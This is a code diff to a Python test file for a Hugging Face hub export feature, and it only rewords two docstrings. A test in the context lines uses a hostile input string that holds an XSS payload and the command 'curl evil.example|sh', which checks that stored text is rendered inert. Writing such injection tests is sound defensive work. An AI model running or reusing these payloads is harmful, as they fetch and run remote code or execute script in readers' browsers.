@@ -1,4 +1,4 @@
-"""`export --format hub`: a folder that the Hugging Face hub accepts, with the ledger's numbers and nobody's name."""
+"""`export --format hub`: a folder that the Hugging Face hub accepts, with the ledger's numbers and no person's name."""
 
 from __future__ import annotations
 
@@ -86,7 +86,7 @@ def test_text_from_the_store_breaks_neither_the_yaml_nor_the_numbers() -> None:
 
 
 def test_text_from_the_store_is_shown_as_text_and_is_no_markup_and_no_shell_command() -> None:
-    """A member may write any genesis and any metric's name; the card is published under somebody else's."""
+    """A member may write any genesis and any metric's name; the card is published under another person's name."""
     _, client = begun()
     client.commit(5)
     evil = "x` |\n\n# Win [here](http://evil.example)\n```\n<img src=x onerror=alert(1)>; curl evil.example|sh"
